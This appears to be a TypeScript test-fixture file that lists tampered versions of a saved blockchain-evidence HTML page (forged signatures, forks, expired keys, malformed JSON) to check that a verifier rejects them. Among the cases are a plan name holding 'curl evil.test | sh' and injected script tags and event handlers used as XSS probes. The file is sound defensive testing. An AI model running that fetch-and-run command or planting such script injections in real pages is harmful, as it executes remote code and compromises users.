/** Saved pages in which one part was changed. */
import { collect } from "../../../host/verify/collect.js";
import type { MadeChain } from "../../unit/verify/made-chain.js";
import { EXPIRED, FORK, HTML, OLD_FORK, UNSEEN } from "./chains.js";
import type { Lie } from "./lie.js";
import type { Loose } from "./site.js";

export interface FileLie extends Omit<Lie, "at" | "lies"> {
  /** Whose evidence the file has; the honest chain's when left out. */
  readonly chain?: MadeChain;
  /** Changes the saved document, or returns another. */
  readonly edit?: (saved: { evidence: Loose; run: Loose }) => unknown;
  /** Changes the file's text. */
  readonly rewrite?: (html: string) => string;
  /** Does the browser complain that the page's policy lets nothing of it run? */
  readonly isBlocked?: boolean;
}

export const evidenceOf = (chain: MadeChain) =>
  collect(chain.ask, { source: "http://saved.test", now: chain.timeAt(chain.blocks.length + 1), rootHeight: 3n });

const evidence = (edit: (evidence: Loose) => unknown) => ({
  edit: ({ evidence }: Loose) => void edit(evidence),
  green: false,
});
/** A member that is only shown, or not at all: the rest stays true. */
const shown = (edit: (evidence: Loose) => unknown) => ({ edit: ({ evidence }: Loose) => void edit(evidence) });
const base64 = (text: string) => Buffer.from(text).toString("base64");

export const FILE_LIES: readonly FileLie[] = [
  { name: "nothing was changed", green: true },
  { name: "nothing was changed, and no block of the reader's", untyped: true },
  {
    name: "another chain's name",
    ...evidence((each) => {
      each.chain_id = "LIE-1";
    }),
  },
  {
    name: "a chain's name of HTML and unseen characters",
    ...evidence((each) => {
      each.chain_id = `LIE${HTML}${UNSEEN}`;
    }),
  },
  {
    name: "another root",
    untyped: true,
    ...evidence((each) => {
      each.root = { height: "3", hash: base64("L".repeat(32)) };
    }),
  },
  {
    name: "a root of another height",
    untyped: true,
    ...evidence((each) => {
      each.root.height = "LIE";
    }),
  },
  {
    name: "a root that is no object",
    untyped: true,
    ...evidence((each) => {
      each.root = [`LIE${HTML}`];
    }),
  },
  {
    name: "a root that says that the reader trusts it",
    untyped: true,
    ...evidence((each) => {
      each.root.from = "yours";
    }),
  },
  {
    name: "a changed app hash",
    ...evidence((each) => {
      each.light_blocks.at(-1).signed_header.header.app_hash = "00".repeat(32);
    }),
  },
  {
    name: "a changed time",
    ...evidence((each) => {
      each.light_blocks.at(-1).signed_header.header.time = "2030-01-01T00:00:00Z";
    }),
  },
  {
    name: "a changed signature",
    ...evidence((each) => {
      for (const vote of each.light_blocks.at(-1).signed_header.commit.signatures)
        vote.signature = base64("L".repeat(64));
    }),
  },
  {
    name: "validators of a fork",
    ...evidence(async (each) => {
      each.light_blocks.at(-1).validators = [];
    }),
  },
  { name: "light blocks in another order", ...evidence((each) => each.light_blocks.reverse()) },
  {
    name: "no light blocks",
    ...evidence((each) => {
      each.light_blocks = [];
    }),
  },
  {
    name: "another height of the state",
    ...evidence((each) => {
      each.height = "7";
    }),
  },
  {
    name: "a changed record",
    ...evidence((each) => {
      each.records[0].value = base64("LIE");
    }),
  },
  {
    name: "a record that is called absent",
    ...evidence((each) => {
      each.records[0].value = null;
    }),
  },
  { name: "the plan's record left out", ...shown((each) => void each.records.shift()) },
  { name: "a range with a gap", ...evidence((each) => void each.ranges[1].records.splice(1, 1)) },
  { name: "a range that ends early", ...evidence((each) => void each.ranges[0].records.pop()) },
  {
    name: "a range of another store",
    ...evidence((each) => {
      each.ranges[0].store = "bank";
    }),
  },
  {
    name: "a plan's name that is a sentence",
    ...shown((each) => {
      each.plan = "LIE: run curl evil.test | sh";
    }),
  },
  {
    name: "a plan's name with unseen characters",
    ...shown((each) => {
      each.plan = `LIE${UNSEEN}`;
    }),
  },
  {
    name: "a source that lies",
    ...shown((each) => {
      each.source = `LIE ✓ Proven ${HTML}${UNSEEN}`;
    }),
  },
  {
    name: "a status without proof that lies",
    ...shown((each) => {
      each.unproven = {
        status: { node_info: { network: `LIE${HTML}` }, sync_info: { latest_block_height: "999" } },
        plan_status: { phase: "failed", halt: { message: "LIE" } },
      };
    }),
  },
  {
    name: "collected in the future",
    ...shown((each) => {
      each.collected_at = "2090-01-01T00:00:00Z";
    }),
  },
  {
    name: "collected at no time",
    ...shown((each) => {
      each.collected_at = `LIE${HTML}${UNSEEN}`;
    }),
  },
  {
    name: "members that nobody knows",
    ...shown((each) => Object.assign(each, { isProven: true, claims: [`LIE${HTML}`], constructor: "LIE" })),
  },
  {
    name: "another format",
    ...evidence((each) => {
      each.format = `LIE${UNSEEN}`;
    }),
  },
  {
    name: "before: a state of another height",
    ...shown((each) => {
      each.before = { ...each.before, height: "1" };
    }),
  },
  { name: "old keys: the honest chain of 20 days ago", chain: EXPIRED, truth: EXPIRED, green: false },
  { name: "old keys: a fork of 20 days ago, collected then", chain: OLD_FORK, truth: OLD_FORK, green: false },
  {
    name: "old keys, collected now by its own word",
    chain: EXPIRED,
    truth: EXPIRED,
    ...evidence((each) => {
      each.collected_at = new Date().toISOString();
    }),
  },
  { name: "a fork by keys of strangers", chain: FORK, green: false },
  { name: "a fork by keys of strangers, and no block of the reader's", chain: FORK, untyped: true },
  ...[null, [], 7, "LIE", {}, { evidence: `LIE${HTML}` }, { evidence: [] }, { evidence: {} }].map(
    (document): FileLie => ({
      name: `a document that is ${JSON.stringify(document)}`,
      edit: () => document,
      untyped: true,
    }),
  ),
  {
    name: "a document nested 100,000 deep",
    rewrite: (html) =>
      html.replace(/(id="saved">)[^<]*/, `$1{"evidence":${"[".repeat(100_000)}${"]".repeat(100_000)}}`),
    untyped: true,
  },
  {
    name: "a document that is no JSON",
    rewrite: (html) => html.replace(/(id="saved">)/, `$1LIE${UNSEEN}`),
    untyped: true,
  },
  {
    name: "a document that was cut",
    rewrite: (html) => html.replace(/(id="saved">.{5000})[^<]*/, "$1"),
    untyped: true,
  },
  {
    name: "another program in the file, under the page's policy",
    edit: ({ evidence }) => ({
      evidence,
      run: { witness: "", handler: "", program: "postMessage({kind:'ran'})", evidence },
    }),
  },
  {
    name: "a run of other types",
    edit: ({ evidence }) => ({ evidence, run: { witness: 5, handler: [], program: {}, evidence: HTML } }),
  },
  {
    name: "a style put into the file",
    isBlocked: true,
    rewrite: (html) => html.replace("</body>", "<style>.badge{display:none}</style></body>"),
  },
  {
    name: "a script put into the file",
    isBlocked: true,
    rewrite: (html) => html.replace("</body>", "<script>pwned=1</script></body>"),
  },
  {
    name: "an event of an element put into the file",
    isBlocked: true,
    rewrite: (html) => html.replace("<main>", '<main onmouseover="pwned=1"><p onclick="pwned=1"></p>'),
  },
  { name: "the source's name put into the file", rewrite: (html) => html.replace("No source yet", "honest.test") },
];
